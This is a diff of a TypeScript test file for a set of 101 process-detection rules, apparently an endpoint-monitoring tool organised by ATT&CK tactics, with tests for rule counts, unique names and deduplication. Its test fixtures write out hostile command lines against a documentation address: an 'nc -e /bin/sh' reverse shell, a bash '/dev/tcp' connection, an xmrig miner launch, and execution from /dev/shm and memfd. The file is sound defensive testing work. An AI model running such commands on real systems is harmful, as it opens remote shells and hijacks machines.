@@ -33,17 +33,40 @@ const execute: ExecuteCase = (path, sql, parameters) => {
 const SHOWN = ['pid', 'name', 'exe_path', 'cmdline', 'ppid', 'parent_name', 'reason'];
 const SHOWN_OF_PROCESSES = [...SHOWN, 'start_time', 'user_name'];
 const SHOWN_OF_EVENTS = [...SHOWN, 'seq', 'timestamp_ms', 'start_ticks', 'command_line', 'user_id', 'parent_exe', 'boot_id'];
-/** What both rules of a pair see. */
-const EXAMPLES: Readonly<Record<string, string>> = {
-  'exec-from-shared-memory': '/dev/shm/z',
-  'memfd-exec': '/memfd:z',
-  'shell-exec-from-network-service': '/usr/bin/dash',
+/** What both rules of a pair see: executable and arguments. */
+const EXAMPLES: Readonly<Record<string, readonly [string, readonly string[]]>> = {
+  'cryptocurrency-miner-exec': ['/opt/xmrig', ['xmrig', '-o', 'stratum+tcp://192.0.2.1:3333']],
+  'dev-tcp-exec': ['/usr/bin/bash', ['bash', '-c', 'cat < /dev/tcp/192.0.2.1/9']],
+  'exec-from-shared-memory': ['/dev/shm/z', ['sh', '-c', 'id']],
+  'memfd-exec': ['/memfd:z', ['sh', '-c', 'id']],
+  'reverse-shell-exec': ['/usr/bin/nc.traditional', ['nc', '-e', '/bin/sh', '192.0.2.1', '9']],
+  'shell-exec-from-network-service': ['/usr/bin/dash', ['sh', '-c', 'id']],
 };
+/** The tactics of ATT&CK that the rules of processes have something to say about. */
+const CATEGORIES = [
+  'collection',
+  'command-and-control',
+  'credential-access',
+  'defense-evasion',
+  'discovery',
+  'execution',
+  'exfiltration',
+  'impact',
+  'initial-access',
+  'lateral-movement',
+  'persistence',
+  'privilege-escalation',
+];
 const readsEvents = (sql: string): boolean => sql.includes(EVENTS_TABLE);
 
-test('there are eleven, all of them sound', () => {
+test('there are 101, all of them sound, over every tactic that processes show', () => {
   expect(problems).toEqual([]);
-  expect(rules).toHaveLength(11);
+  expect(rules).toHaveLength(101);
+  expect([...new Set(rules.map(({ category }) => category))].toSorted()).toEqual(CATEGORIES);
+});
+
+test('no two have the same name', () => {
+  expect(new Set(rules.map(({ name }) => name)).size).toBe(rules.length);
 });
 
 describe.each(rules.map((rule) => [rule.id, rule] as const))('%s', (id, rule) => {
@@ -91,15 +114,24 @@ describe.each(rules.map((rule) => [rule.id, rule] as const))('%s', (id, rule) =>
   });
 });
 
-test('rules over events share the findings of a rule over processes, so that no process is alerted twice', async () => {
-  const shared = rules.filter(({ sql }) => readsEvents(sql));
-  expect(shared.length).toBeGreaterThanOrEqual(2);
+test('rules over events look at each event once, and name the columns that make two findings the same', () => {
+  const overEvents = rules.filter(({ sql }) => readsEvents(sql));
+  expect(overEvents.length).toBeGreaterThan(80);
+  for (const { id, sql, dedupKeys } of overEvents) {
+    expect([id, sql]).toEqual([id, expect.stringContaining('> :since_seq')]);
+    expect([id, dedupKeys.filter((key) => ['seq', 'pid', 'start_time', 'timestamp_ms'].includes(key))]).toEqual([id, []]);
+  }
+});
+
+test('where a rule over processes looks for the same, both share their findings, so that no process is alerted twice', async () => {
+  const shared = rules.filter(({ dedupWith }) => dedupWith !== undefined);
+  expect(shared.map(({ id }) => id).toSorted()).toEqual(Object.keys(EXAMPLES));
   for (const rule of shared) {
-    expect(rule.sql).toContain('> :since_seq');
     const other = rules.find(({ id }) => id === rule.dedupWith);
     expect([rule.id, other?.dedupKeys]).toEqual([rule.id, rule.dedupKeys]);
     if (other === undefined) continue;
-    const row = { pid: 9, exe_path: EXAMPLES[rule.id], argv: ['sh', '-c', 'id'], ppid: 8, user_id: 33 };
+    const [path, argv] = EXAMPLES[rule.id] ?? [];
+    const row = { pid: 9, exe_path: path, argv, ppid: 8, user_id: 33 };
     const parent = { pid: 8, name: 'nginx', exe_path: '/usr/sbin/nginx' };
     const rows = { processes: [parent, row], [EVENTS_TABLE]: [{ ...parent }, row] };
     const found: unknown[] = [];
